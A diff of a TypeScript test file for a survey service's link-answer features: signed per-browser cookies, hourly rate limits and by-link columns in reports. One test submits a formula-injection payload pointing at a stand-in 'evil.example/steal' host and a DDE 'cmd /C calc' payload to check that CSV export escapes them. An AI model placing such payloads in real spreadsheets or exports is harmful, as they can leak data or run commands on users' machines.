@@ -1,10 +1,16 @@
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
+import { buildApp } from '../../app.ts';
+import { createLogger } from '../../common/logger.ts';
+import { openOrm } from '../../db/orm.ts';
 import { useTestApp } from '../../test/harness.ts';
 import { signIn } from '../../test/sign-in.ts';
 import { Role } from '../accounts/user.entity.ts';
 
-const app = useTestApp();
+const LINK_LIMIT = 3;
+const app = useTestApp({ surveyLinkAnswersPerHour: LINK_LIMIT });
 const CREATE = `mutation($input: SurveyInput!) { createSurvey(input: $input) { id link status questions { id text type options required } } }`;
 const ANSWER = `mutation($id: ID, $link: String, $answers: [SurveyAnswerInput!]!) { answerSurvey(id: $id, link: $link, answers: $answers) }`;
 const RESULTS = `query($id: ID!) { survey(id: $id) { responseCount results { responses questions { question { id } answered counts { option count } average texts } } } }`;
@@ -65,13 +71,14 @@ describe('needs monitoring surveys', () => {
     const sheet = workbook.getWorksheet('Итоги опроса')!;
     expect(String(sheet.getCell('A1').value)).toContain(`«${NEEDS.title}»: получено ответов — 2`);
     const rows = sheet.getSheetValues().slice(3).map((row) => (row as unknown[]).slice(1));
-    expect(rows).toContainEqual(['1. Какие темы для вас актуальны?', 'несколько вариантов', 2]);
-    expect(rows).toContainEqual(['', 'Функциональная грамотность', 2, 100]);
-    expect(rows).toContainEqual(['', 'Работа с детьми с ОВЗ', 1, 50]);
+    // The last column: how many of them came by link (the second answer did).
+    expect(rows).toContainEqual(['1. Какие темы для вас актуальны?', 'несколько вариантов', 2, undefined, 1]);
+    expect(rows).toContainEqual(['', 'Функциональная грамотность', 2, 100, 1]);
+    expect(rows).toContainEqual(['', 'Работа с детьми с ОВЗ', 1, 50, 0]);
     expect(rows).toContainEqual(['', 'средняя оценка', 3]);
-    expect(rows).toContainEqual(['', 'Наставничество']);
+    expect(rows).toContainEqual(['', 'Наставничество', undefined, undefined, 'нет']);
     const csv = await (await fetch(`${app.url}/reports/survey-${survey.id}.csv`, { headers: auth })).text();
-    expect(csv).toContain('меньше 3 лет;1;50');
+    expect(csv).toContain('\r\n;меньше 3 лет;1;50;0\r\n');
     // …and a sheet of the district's annual summary.
     const annual = new ExcelJS.Workbook();
     await annual.xlsx.load(Buffer.from(await (await fetch(`${app.url}/reports/annual-${new Date().getFullYear()}.xlsx`, { headers: auth })).arrayBuffer()) as never);
@@ -116,5 +123,125 @@ describe('needs monitoring surveys', () => {
     }
     expect((await app.gql(ANSWER, { id: survey.id, answers: answers([0], 0, 9) }, reader.token)).errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
     expect((await app.gql(RESULTS, { id: survey.id }, methodist.token)).data.survey.responseCount).toBe(0);
+  });
+
+  it('a free answer by link beginning with = or @ reaches the survey CSV as text (a leading apostrophe), and counts stay numbers', async () => {
+    const methodist = await signIn(app, Role.METHODIST);
+    const survey = (await app.gql(CREATE, { input: { title: 'Опрос с опасными ответами', questions: [{ text: 'Ваше предложение', type: 'TEXT' }, { text: 'Оценка', type: 'SCALE' }] } }, methodist.token)).data.createSurvey;
+    const link = survey.link.split('/').pop();
+    for (const text of ['=HYPERLINK("http://evil.example/steal","Подробнее")', '@SUM(1+1)*cmd|\' /C calc\'!A0']) {
+      expect((await app.gql(ANSWER, { link, answers: [{ questionId: 'q1', text }, { questionId: 'q2', score: 2 }] })).errors).toBeUndefined();
+    }
+    const csv = await (await fetch(`${app.url}/reports/survey-${survey.id}.csv`, { headers: { authorization: `Bearer ${methodist.token}` } })).text();
+    const lines = csv.split('\r\n');
+    expect(lines).toContain(`;"'=HYPERLINK(""http://evil.example/steal"",""Подробнее"")";;;да`);
+    expect(lines).toContain(`;'@SUM(1+1)*cmd|' /C calc'!A0;;;да`);
+    expect(lines).toContain(';2;2;100;2');
+  });
+});
+
+describe('answers by link', () => {
+  const SHORT = { title: 'Короткий опрос по ссылке', questions: [{ text: 'Оценка семинара', type: 'SCALE' }, { text: 'Комментарий', type: 'TEXT', required: false }] };
+  const newSurvey = async (methodistToken: string) => {
+    const survey = (await app.gql(CREATE, { input: SHORT }, methodistToken)).data.createSurvey;
+    return { ...survey, token: survey.link.split('/').pop() as string };
+  };
+  /** An answer by link from a browser: `cookie` is what it holds, the answer says what it is given back. */
+  const answerByLink = async (url: string, link: string, score: number, cookie?: string) => {
+    const response = await fetch(`${url}/graphql`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', ...(cookie ? { cookie } : {}) },
+      body: JSON.stringify({ query: ANSWER, variables: { link, answers: [{ questionId: 'q1', score }] } }),
+    });
+    const body = (await response.json()) as { data?: { answerSurvey: boolean }; errors?: Array<{ message: string; extensions: { code: string } }> };
+    const given = response.headers.getSetCookie().find((c) => c.startsWith('kb_browser='));
+    return { status: response.status, body, cookie: given?.split(';')[0] ?? cookie };
+  };
+
+  it('takes one answer per browser: its signed cookie refuses a second answer, also two tabs at once; a forged cookie is a new browser', async () => {
+    const methodist = await signIn(app, Role.METHODIST);
+    const first = await newSurvey(methodist.token);
+    const answered = await answerByLink(app.url, first.token, 4);
+    expect(answered.body.data?.answerSurvey).toBe(true);
+    expect(answered.cookie).toMatch(/^kb_browser=/);
+    const again = await answerByLink(app.url, first.token, 1, answered.cookie);
+    expect(again.body.errors?.[0]).toMatchObject({ message: 'С этого браузера на опрос уже ответили', extensions: { code: 'BAD_USER_INPUT' } });
+
+    // Two tabs of the same browser at once: the database lets one in.
+    const second = await newSurvey(methodist.token);
+    const tabs = await Promise.all([answerByLink(app.url, second.token, 2, answered.cookie), answerByLink(app.url, second.token, 3, answered.cookie)]);
+    expect(tabs.map((t) => t.body.data?.answerSurvey ?? t.body.errors?.[0]?.message).sort()).toEqual([true, 'С этого браузера на опрос уже ответили'].sort());
+
+    // A cookie whose id was changed does not pass its signature: it is a new browser, with a new cookie.
+    const value = decodeURIComponent(answered.cookie!.slice('kb_browser='.length));
+    const forged = `kb_browser=${encodeURIComponent(`${value[0] === 'A' ? 'B' : 'A'}${value.slice(1)}`)}`;
+    const stranger = await answerByLink(app.url, first.token, 5, forged);
+    expect(stranger.body.data?.answerSurvey).toBe(true);
+    expect(stranger.cookie).not.toBe(forged);
+    expect((await app.gql(RESULTS, { id: first.id }, methodist.token)).data.survey.responseCount).toBe(2);
+  });
+
+  it('recognises a browser\'s cookie on every server of the database: the signing secret is kept in PostgreSQL', async () => {
+    const methodist = await signIn(app, Role.METHODIST);
+    const survey = await newSurvey(methodist.token);
+    const answered = await answerByLink(app.url, survey.token, 4);
+    // A second server on the same database, with an ORM of its own.
+    const orm = await openOrm({ databaseUrl: app.orm.config.get('clientUrl')!, poolMax: 2 });
+    const other = await buildApp({ orm, search: app.search, files: app.files, logger: createLogger('silent'), production: false, ipLimits: { any: 100_000, search: 100_000, login: 100_000 } });
+    const server = http.createServer(other.handler);
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    try {
+      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+      expect((await answerByLink(url, survey.token, 2, answered.cookie)).body.errors?.[0]?.message).toBe('С этого браузера на опрос уже ответили');
+      expect((await answerByLink(url, survey.token, 2)).body.data?.answerSurvey).toBe(true);
+    } finally {
+      await new Promise<void>((resolve) => server.close(() => resolve()));
+      await other.stop();
+      await orm.close();
+    }
+  });
+
+  it('caps answers by link from one address to a survey per hour (SURVEY_LINK_ANSWERS_PER_HOUR), counting only accepted answers; signed-in answers and other surveys are not capped', async () => {
+    const methodist = await signIn(app, Role.METHODIST);
+    const survey = await newSurvey(methodist.token);
+    // Refused answers do not count: a bad score, and a browser's second answer (refused by the database, its count rolled back).
+    expect((await answerByLink(app.url, survey.token, 9)).body.errors?.[0]?.extensions.code).toBe('BAD_USER_INPUT');
+    const first = await answerByLink(app.url, survey.token, 3);
+    expect(first.body.data?.answerSurvey).toBe(true);
+    expect((await answerByLink(app.url, survey.token, 3, first.cookie)).body.errors?.[0]?.message).toBe('С этого браузера на опрос уже ответили');
+    for (let i = 1; i < LINK_LIMIT; i++) expect((await answerByLink(app.url, survey.token, 3)).body.data?.answerSurvey).toBe(true);
+    const over = await answerByLink(app.url, survey.token, 3);
+    expect(over.status).toBe(429);
+    expect(over.body.errors?.[0]).toMatchObject({ extensions: { code: 'RATE_LIMITED' } });
+    expect(over.body.errors?.[0]?.message).toContain(`не больше ${LINK_LIMIT} ответов по ссылке в час`);
+    const teacher = await signIn(app, Role.READER);
+    expect((await app.gql(ANSWER, { id: survey.id, answers: [{ questionId: 'q1', score: 5 }] }, teacher.token)).data?.answerSurvey).toBe(true);
+    expect((await answerByLink(app.url, (await newSurvey(methodist.token)).token, 3)).body.data?.answerSurvey).toBe(true);
+    expect((await app.gql(RESULTS, { id: survey.id }, methodist.token)).data.survey.responseCount).toBe(LINK_LIMIT + 1);
+  });
+
+  it('marks in the results and the report which answers came by link and which from signed-in teachers', async () => {
+    const methodist = await signIn(app, Role.METHODIST);
+    const survey = await newSurvey(methodist.token);
+    const teacher = await signIn(app, Role.READER);
+    await app.gql(ANSWER, { id: survey.id, answers: [{ questionId: 'q1', score: 5 }, { questionId: 'q2', text: 'Войдя: всё понятно' }] }, teacher.token);
+    await app.gql(ANSWER, { link: survey.token, answers: [{ questionId: 'q1', score: 5 }, { questionId: 'q2', text: 'По ссылке: мало практики' }] });
+    await app.gql(ANSWER, { link: survey.token, answers: [{ questionId: 'q1', score: 2 }] });
+
+    const results = (await app.gql(`query($id: ID!) { survey(id: $id) { results { responses byLink signedIn questions { answered answeredByLink counts { option count byLink } textAnswers { text byLink } } } } }`, { id: survey.id }, methodist.token)).data.survey.results;
+    expect(results).toMatchObject({ responses: 3, byLink: 2, signedIn: 1 });
+    const [score, comment] = results.questions;
+    expect(score).toMatchObject({ answered: 3, answeredByLink: 2 });
+    expect(score.counts.filter((c: { count: number }) => c.count > 0)).toEqual([{ option: '2', count: 1, byLink: 1 }, { option: '5', count: 2, byLink: 1 }]);
+    expect(comment.textAnswers).toEqual([{ text: 'Войдя: всё понятно', byLink: false }, { text: 'По ссылке: мало практики', byLink: true }]);
+
+    const csv = await (await fetch(`${app.url}/reports/survey-${survey.id}.csv`, { headers: { authorization: `Bearer ${methodist.token}` } })).text();
+    const lines = csv.slice(1).split('\r\n');
+    expect(lines[0]).toContain('получено ответов — 3: по ссылке без входа — 2, войдя — 1');
+    expect(lines[1]).toBe('Вопрос;Вариант или ответ;Ответили;Доля, %;Из них по ссылке');
+    expect(lines).toContain('1. Оценка семинара;оценка 1–5;3;;2');
+    expect(lines).toContain(';5;2;66.7;1');
+    expect(lines).toContain(';Войдя: всё понятно;;;нет');
+    expect(lines).toContain(';По ссылке: мало практики;;;да');
   });
 });
